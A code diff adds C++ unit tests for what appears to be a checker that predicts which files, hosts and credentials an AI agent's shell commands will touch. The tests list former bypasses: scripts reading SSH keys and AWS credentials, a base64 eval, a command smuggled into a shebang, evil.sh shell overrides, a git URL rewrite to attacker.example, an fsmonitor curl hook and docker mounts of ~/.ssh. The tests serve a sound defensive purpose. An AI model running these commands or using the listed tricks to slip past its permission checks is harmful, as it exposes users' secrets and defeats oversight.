@@ -373,6 +373,121 @@ TEST(ProjectTasks, MakeTargetsRunTheirRecipesAndPrerequisites) {
   EXPECT_TRUE(any_opaque(shell_actions("make app.o", "Bash", s.env())));  // a pattern or implicit rule
 }
 
+// Ways around reading a script, each once a bypass.
+TEST(ScriptBypasses, ShebangArgumentsAreNotUnderstood) {
+  Scripts s;
+  s.files["/home/dev/project/x.sh"] = {"#!/usr/bin/env -S bash -c \"cat ~/.ssh/id_rsa\"\necho building\n", true};
+  EXPECT_TRUE(any_opaque(shell_actions("./x.sh", "Bash", s.env())));
+  s.files["/home/dev/project/y.sh"] = {"#!/bin/bash -eu\necho building\n", true};
+  EXPECT_FALSE(any_opaque(shell_actions("./y.sh", "Bash", s.env())));
+}
+
+TEST(ScriptBypasses, AScriptChangedOnTheSameLineIsNotWhatWasRead) {
+  Scripts s;
+  s.files["/home/dev/project/b.sh"] = {"echo harmless\n", false};
+  for (const char* cmd : {"cp payload.txt b.sh && sh b.sh", "cat payload.txt > b.sh && sh b.sh",
+                          "mv payload.txt b.sh; ./b.sh", "sed -i s/x/y/ b.sh && bash b.sh"})
+    EXPECT_TRUE(any_opaque(shell_actions(cmd, "Bash", s.env()))) << cmd;
+}
+
+TEST(ScriptBypasses, AnOlderScriptRunningANewOneKeepsItsDoubts) {
+  Scripts s;
+  s.files["/home/dev/project/ci.sh"] = {"./scripts/lint.sh\n", false};
+  s.files["/home/dev/project/scripts/lint.sh"] = {"eval \"$(echo Y2F0 | base64 -d)\"\n", true};
+  EXPECT_TRUE(any_opaque(shell_actions("./ci.sh", "Bash", s.env())));
+}
+
+TEST(ScriptBypasses, ScriptsFedOnStdinAreRead) {
+  Scripts s;
+  s.files["/home/dev/project/s.sh"] = {"cat ~/.ssh/id_rsa\n", true};
+  s.files["/home/dev/project/x.py"] = {"open('/home/dev/.aws/credentials').read()\n", true};
+  for (const char* cmd :
+       {"bash < s.sh", "bash - < s.sh", "bash /dev/stdin < s.sh", "cat s.sh | sh", "at now + 1 minute < s.sh"})
+    EXPECT_NE(find(shell_actions(cmd, "Bash", s.env()), Kind::FileRead, "/home/dev/.ssh/id_rsa"), nullptr) << cmd;
+  EXPECT_NE(find(shell_actions("python3 < x.py", "Bash", s.env()), Kind::FileRead, "/home/dev/.aws/credentials"),
+            nullptr);
+}
+
+TEST(ScriptBypasses, MoreScriptsThanAreReadIsOpaque) {
+  Scripts s;
+  std::string cmd;
+  for (int i = 0; i < 17; ++i) cmd += "sh t" + std::to_string(i) + ".sh; ";
+  EXPECT_TRUE(any_opaque(shell_actions(cmd, "Bash", s.env())));
+}
+
+TEST(ScriptBypasses, WrapperOptionsWithValuesAreSkipped) {
+  Scripts s;
+  s.files["/home/dev/project/s.sh"] = {"cat ~/.ssh/id_rsa\n", true};
+  for (const char* cmd : {"strace --trace file ./s.sh", "unshare --map-user 0 ./s.sh",
+                          "unshare --propagation private ./s.sh", "systemd-run --user -d ./s.sh"})
+    EXPECT_NE(find(shell_actions(cmd, "Bash", s.env()), Kind::FileRead, "/home/dev/.ssh/id_rsa"), nullptr) << cmd;
+  EXPECT_TRUE(any_opaque(shell_actions("vim -u evil.vimrc notes.txt", "Bash", s.env())));
+  EXPECT_TRUE(any_opaque(shell_actions("tmux source-file x.conf", "Bash", s.env())));
+}
+
+TEST(ScriptBypasses, MakeAndNpmSettingsThatChangeHowRecipesRun) {
+  Scripts s;
+  s.files["/home/dev/project/Makefile"] = {
+      "all: app\n%.o: %.c\n\tcurl https://x.example\napp: main.o\n\tcc -o app main.o\n", false};
+  // A prerequisite made by a pattern rule runs that rule's recipe.
+  EXPECT_NE(find(shell_actions("make", "Bash", s.env()), Kind::NetFetch, "x.example"), nullptr);
+  for (const char* cmd : {"make SHELL=./evil.sh", "make -f - all", "make -f a.mk -f Makefile", "MAKEFLAGS=-j make",
+                          "npm test --script-shell=./evil.sh", "npm_config_script_shell=./evil.sh npm test"})
+    EXPECT_TRUE(any_opaque(shell_actions(cmd, "Bash", s.env()))) << cmd;
+  s.files["/home/dev/project/Makefile"] = {"SHELL := ./evil.sh\nall:\n\techo hi\n", true};
+  EXPECT_TRUE(any_opaque(shell_actions("make", "Bash", s.env())));
+  s.files["/home/dev/project/package.json"] = {R"({"scripts":{"postprepare":"curl https://x.example"}})", true};
+  EXPECT_NE(find(shell_actions("npm install", "Bash", s.env()), Kind::NetFetch, "x.example"), nullptr);
+  s.files["/home/dev/project/package.json"] = {R"({"name":"app"})", true};
+  s.files["/home/dev/project/server.js"] = {"require('https').get('https://y.example')\n", true};
+  EXPECT_NE(find(shell_actions("npm start", "Bash", s.env()), Kind::NetFetch, "y.example"), nullptr);
+}
+
+TEST(ScriptBypasses, GitConfigurationIncludesRewritesAndEnvironment) {
+  Scripts s = repo(
+      "[include]\n\tpath = extra.cfg\n[remote \"origin\"]\n\turl = https://github.com/a/b\n"
+      "\tpushurl = gh:a/b\n[url \"https://attacker.example/\"]\n\tinsteadOf = gh:\n");
+  s.files["/home/dev/project/.git/extra.cfg"] = {"[remote \"side\"]\n\turl = https://side.example/r\n", false};
+  EXPECT_EQ(hosts(shell_actions("git push side", "Bash", s.env())), (Hosts{"side.example"}));
+  EXPECT_EQ(hosts(shell_actions("git push origin", "Bash", s.env())), (Hosts{"attacker.example"}));
+  auto all = hosts(shell_actions("git fetch --all", "Bash", s.env()));
+  EXPECT_NE(std::find(all.begin(), all.end(), "side.example"), all.end());
+  EXPECT_TRUE(any_opaque(shell_actions("GIT_DIR=/tmp/x/.git git push", "Bash", s.env())));
+  EXPECT_EQ(hosts(shell_actions("git -C /home/dev -C project push side", "Bash", s.env("/tmp"))),
+            (Hosts{"side.example"}));
+  EXPECT_EQ(hosts(shell_actions("gh -R attacker.example/o/r issue list", "Bash", s.env())),
+            (Hosts{"attacker.example"}));
+  auto cfg = shell_actions("git config -f .git/config core.fsmonitor 'curl x'", "Bash", s.env());
+  EXPECT_TRUE(any_opaque(cfg));
+  EXPECT_NE(find(cfg, Kind::FileWrite, "/home/dev/project/.git/config"), nullptr);
+}
+
+TEST(ScriptBypasses, ContainerMountSpellings) {
+  Scripts s;
+  for (const char* cmd : {"docker container run -v ~/.ssh:/x alpine", "docker run -itv ~/.ssh:/x alpine",
+                          "docker run -dv ~/.ssh:/x alpine", "docker run -v=~/.ssh:/x alpine",
+                          "docker --context x run -v ~/.ssh:/x alpine", "docker compose run -v ~/.ssh:/x app"})
+    EXPECT_NE(find(shell_actions(cmd, "Bash", s.env()), Kind::FileRead, "/home/dev/.ssh"), nullptr) << cmd;
+}
+
+TEST(ScriptBypasses, CredentialCommandsWithOptionsFirst) {
+  Scripts s;
+  EXPECT_NE(find(shell_actions("aws --profile prod configure get aws_secret_access_key", "Bash", s.env()),
+                 Kind::FileRead, "/home/dev/.aws/credentials"),
+            nullptr);
+  EXPECT_NE(find(shell_actions("glab auth status -t", "Bash", s.env()), Kind::FileRead,
+                 "/home/dev/.config/glab-cli/config.yml"),
+            nullptr);
+}
+
+TEST(ScriptBypasses, AnOlderProgramsStringsAreNotReads) {
+  Scripts s;
+  s.files["/home/dev/project/manage.py"] = {"from dotenv import load_dotenv\nload_dotenv('.env')\n", false};
+  EXPECT_EQ(
+      find(shell_actions("python3 manage.py runserver", "Bash", s.env()), Kind::FileRead, "/home/dev/project/.env"),
+      nullptr);
+}
+
 // The reader on the real file system.
 class ScriptReaderFs : public ::testing::Test {
  protected:
@@ -428,6 +543,11 @@ TEST_F(ScriptReaderFs, RefusesFifosDevicesAndLargeFilesWithoutBlocking) {
                                                6) +
                                        std::string(100000, 'x'));
   EXPECT_EQ(file_script_reader(0)(bin).state, ScriptFile::State::Binary);
+  std::string late_nul = write("nul.sh", std::string("cat ~/.ssh/id_rsa\n# ") + '\0' + "\n");
+  f = file_script_reader(0)(late_nul);
+  EXPECT_EQ(f.state, ScriptFile::State::Text);
+  EXPECT_EQ(file_script_reader(0)(write("nul1.sh", std::string("ab") + '\0' + "cd\n")).state,
+            ScriptFile::State::Binary);
   std::string exact = write("exact.sh", std::string(4096, '#'));
   f = file_script_reader(0)(exact);
   EXPECT_EQ(f.state, ScriptFile::State::Text);
